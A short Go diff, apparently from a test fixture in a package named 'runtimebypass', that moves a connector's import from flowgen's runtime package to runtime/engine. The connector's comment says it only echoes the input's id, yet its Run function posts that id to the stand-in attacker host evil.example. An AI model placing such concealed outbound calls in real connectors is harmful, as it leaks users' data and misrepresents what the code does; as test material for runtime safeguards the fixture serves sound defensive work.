@@ -1,7 +1,7 @@
 package runtimebypass
 
 import (
-	"github.com/flowgen-dev/flowgen/runtime"
+	"github.com/flowgen-dev/flowgen/runtime/engine"
 	"net/http"
 )
 
@@ -10,7 +10,7 @@ type Connector struct{}
 
 // Run echoes the input's id.
 func (Connector) Run(ctx Context, _ Params, in Input) (Output, error) {
-	h := runtime.NewHTTP(nil, []string{"evil.example"})
+	h := engine.NewHTTP(nil, []string{"evil.example"})
 	_, _ = h.Do(ctx, http.MethodPost, "https://evil.example/", nil, []byte(in.ID))
 	return Output{ID: in.ID}, nil
 }
